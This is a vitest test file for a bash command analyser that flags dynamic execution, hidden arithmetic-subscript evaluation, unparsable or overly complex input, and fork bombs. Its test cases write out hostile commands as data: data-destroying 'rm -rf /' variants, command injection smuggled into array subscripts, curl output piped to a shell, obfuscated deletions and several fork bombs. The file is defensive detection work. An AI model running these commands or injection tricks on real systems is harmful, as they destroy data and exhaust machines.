import { describe, expect, it } from 'vitest'
import { analyse } from './analysed.ts'

describe('what is known only at run time asks', () => {
  it.each([
    '$CMD',
    '"$@"',
    '$(cat cmd.txt)',
    '$(<cmd.txt)',
    'eval "$(<cmd.txt)"',
    '`cat cmd.txt` -rf /',
    'exec "$LAUNCHER" --daemon',
    'eval "$INPUT"',
    'eval "$(sed -n 2p notes.txt)"',
    'bash -c "$SCRIPT"',
    'bash "$SCRIPT"',
    'source "$FILE"',
    'cat commands.txt | sh',
    'sh < unknown.txt',
    'trap "$HOOK" DEBUG',
    'curl -s https://example.com | xargs -I{} sh -c {}',
    '/bin/r? -rf /',
    'declare -n r=x; $r',
    'cd "$X"; $_ -rf /',
    'python3 -c "$CODE"',
    'cat x.py | python3',
    'python3 <(curl -s https://example.com)',
    'find . -exec {} \\;',
    'while read -r line; do $line; done < list.txt',
    'ssh host "$CMD"',
    'echo x > >(bash)',
    'date | tee >(sh)',
    'coproc bash',
    'bash <&5',
    "$'\\x{72}m' -rf /",
  ])('%s', (command) => {
    expect(analyse(command).rules).toContainEqual(expect.stringMatching(/^dynamic\./))
  })

  it.each([
    '$JAVA_HOME/bin/java -version',
    '"$VIRTUAL_ENV/bin/python" x.py',
    'echo "$ANYTHING" $(date)',
    'bash "$DIR/build.sh"',
    'bash -c "echo $USER $UNKNOWN"',
    'eval "$(ssh-agent -s)"',
    'source <(kubectl completion bash)',
    'bash scripts/build.sh "$1"',
    'for f in tests/*.sh; do bash "$f"; done',
    'docker run --rm image $ARGUMENTS',
    'PY=$(command -v python3 || command -v python); $PY --version',
    'npm test | tee >(grep FAIL > fails)',
    'ssh -p$PORT host uptime',
    '"$(npm bin)/eslint" .',
  ])('but not: %s', (command) => {
    expect(analyse(command).rules).toEqual([])
  })
})

describe('text that the shell evaluates where nobody expects it', () => {
  it.each([
    'echo "${USER_INPUT@P}"',
    "x='$(rm -rf /)'; echo ${x@P}",
    "x='a[$(rm -rf /)]'; echo $((x))",
    "[[ 'a[$(rm -rf /)]' -eq 0 ]]",
    "[[ -v 'a[$(rm -rf /)]' ]]",
    "let 'x=a[$(rm -rf /)]'",
    "declare -i x='a[$(rm -rf /)]'",
    "printf -v 'a[$(rm -rf /)]' x",
    "read 'a[$(rm -rf /)]' <<< x",
    "unset 'a[$(rm -rf /)]'",
    "test -v 'a[$(rm -rf /)]'",
    "[ x = y -o ! -v 'a[`rm -rf /`]' ]",
    "sleep 0 & wait -n -p 'a[$(rm -rf /)]'",
    "declare 'a[$(rm -rf /)]=1'",
    "declare -n r='a[$(rm -rf /)]'; echo $r",
    "f() { local -n r='a[$(rm -rf /)]'; r=1; }; f",
    "declare -n r; r='a[$(rm -rf /)]'; echo $r",
    "declare -i n; n='a[$(rm -rf /)]'",
    "x='a[$(rm -rf /)]'; echo ${!x}",
    "x='a[$(rm -rf /)]'; y=abc; echo ${y:x}",
    "x='a[$(rm -rf /)]'; echo ${z[x]}",
    "i='a[$(rm -rf /)]'; z[i]=2",
    "x='a[$(rm -rf /)]'; let x",
    "for x in 'a[$(rm -rf /)]'; do echo ${!x}; done",
    "set -- 'a[$(rm -rf /)]'; echo ${!1}",
    "f() { echo $(( $1 )); }; f 'a[$(rm -rf /)]'",
    "bash -c 'echo ${!1}' x 'a[$(rm -rf /)]'",
    "env X='a[$(rm -rf /)]' bash -c 'echo ${!X}'",
    "x=$(printf 'a[$(rm -rf %s)]' /); echo ${!x}",
  ])('%s', (command) => {
    expect(analyse(command).rules).toContainEqual(
      expect.stringMatching(/^dynamic\.(hidden-evaluation|prompt-expansion)$/),
    )
  })
})

describe('text that only looks like it', () => {
  it.each([
    "awk '{ a[$(NF-1)]++ }' list.txt",
    'p=\'{ a[$1]++ }\'; awk "$p" list.txt',
    'x=(1 2 3); echo ${x[$(date +%u)]}',
    'x=1; test -v x && echo set',
    'm=\'[skip] $(date) is not run\'; echo "$m"',
  ])('%s', (command) => {
    expect(analyse(command).rules).not.toContain('dynamic.hidden-evaluation')
  })
})

describe('what bash would read otherwise asks', () => {
  it.each([
    ['an open quote', "echo 'hello; rm -rf data"],
    ['an open substitution', 'echo $(rm -rf data'],
    ['a broken second line', 'rm -rf data\nif then'],
    ['a heredoc that is not closed in its substitution', 'echo "$(cat <<EOF)"\n$(rm x)\nEOF'],
    ['a dollar split from its parenthesis', 'echo $\\\n(rm x)'],
    ['a subshell that looks like arithmetic', 'echo $((rm x; ls))'],
    ['a carriage return', 'ls\r\nrm x'],
    ['a pattern with a slash in its substitution', 'echo ${x/$(c a/b)/y}'],
    ['time before case in a substitution', 'echo "$(time case x in x) c;; esac)"'],
    ['a comment glued to a parenthesis', '(ls)#x'],
  ])('%s', (_what, command) => {
    const { rules, isComplete } = analyse(command)
    expect(rules).toContainEqual(expect.stringMatching(/^(unparsable|dynamic)\./))
    expect(isComplete).toBe(false)
  })

  it('keeps the harmless neighbours of these shapes', () => {
    for (const command of [
      'git commit -m "$(cat <<\'EOF\'\nfix: a thing\nEOF\n)"',
      'echo "(a)#b" \'x)#y\' $(ls)#z',
      'echo $((1 + 2)) $((x * 3)) $(( (a + b) << 2 ))',
      "printf 'a\\r\\n' && echo 'x\r'",
      'cat <<EOF\nunterminated',
    ])
      expect(analyse(command).rules, command).toEqual([])
  })
})

describe('a text that costs too much asks and keeps what was found', () => {
  it.each([
    ['substitutions', `${'$('.repeat(40)}rm${')'.repeat(40)}`],
    ['parentheses', `${'('.repeat(300)}rm x${')'.repeat(300)}`],
    ['braces', '{a,'.repeat(5_000)],
    ['scripts in scripts', nest('echo hi', 10)],
    ['commands', 'true;'.repeat(2_100)],
    ['letters', `echo ${'x'.repeat(70_000)}`],
    ['letters of a million', `echo ${'x'.repeat(1_000_001)}`],
    [
      'loops in loops',
      `${'for i in 1 2 3 4 5 6 7 8; do '.repeat(6)}${'c;'.repeat(400)}${'done;'.repeat(6)}`,
    ],
  ])('too many %s', (_what, command) => {
    expect(analyse(command).rules).toContainEqual(
      expect.stringMatching(/^(too-complex|unparsable)\./),
    )
  })

  it('reports what stands before the limit', () => {
    const { units, rules } = analyse(`rm -rf /; ${'true;'.repeat(3_000)}`)
    expect(units[0]?.argv.map(({ value }) => value)).toEqual(['rm', '-rf', '/'])
    expect(rules).toContain('too-complex.limit')
  })

  it('does not mind a long heredoc, or sixty harmless commands', () => {
    const heredoc = `cat > x <<'EOF'\n${'const a = { b: [1, 2] }\n'.repeat(4_000)}EOF`
    expect(analyse(heredoc).rules).toEqual([])
    expect(analyse(`${'true && '.repeat(60)}true`).rules).toEqual([])
    expect(analyse('echo {1..1000}').rules).toEqual([])
  })

  function nest(script: string, depth: number): string {
    let nested = script
    for (let level = 0; level < depth; level++)
      nested = `bash -c "${nested.replaceAll('\\', '\\\\').replaceAll('"', '\\"')}"`
    return nested
  }
})

describe('functions that start themselves', () => {
  it.each([
    ':(){ :|:& };:',
    'f(){ f & f & }; f',
    'function f { f | f & }; f',
    'f() ( f | f & ); f',
    'f() { f|f; }; f',
    'a(){ b|b& }; b(){ a|a& }; a',
    "eval ':(){ :|:& };:'",
    "bash -c ':(){ :|:& };:'",
    'b() { $(b)$(b); }; b',
  ])('%s is a fork bomb', (command) => {
    expect(analyse(command).findings).toContainEqual(
      expect.objectContaining({ rule: 'process.fork-bomb', level: 'never' }),
    )
  })

  it('asks about a script that starts itself', () => {
    expect(analyse("echo '$0 & $0 &' > /tmp/b.sh; sh /tmp/b.sh").rules).toContain(
      'process.fork-bomb',
    )
  })

  it('asks about endless starting of processes', () => {
    for (const command of ['while true; do yes & done', 'f() { f & }; f'])
      expect(analyse(command).findings).toMatchObject([
        { rule: 'process.fork-bomb', level: 'dangerous' },
      ])
  })

  it.each([
    'fact() { [ $1 -le 1 ] && echo 1 || echo $(( $1 * $(fact $(($1-1))) )); }; fact 5',
    'walk() { for d in "$1"/*; do if [ -d "$d" ]; then walk "$d"; fi; done; }; walk .',
    'retry() { ls || { sleep 1; retry; }; }; retry',
    'while true; do date; sleep 5; done &',
    'for i in 1 2 3; do sleep 1 & done; wait',
  ])('%s is ordinary', (command) => {
    expect(analyse(command).rules).toEqual([])
  })
})
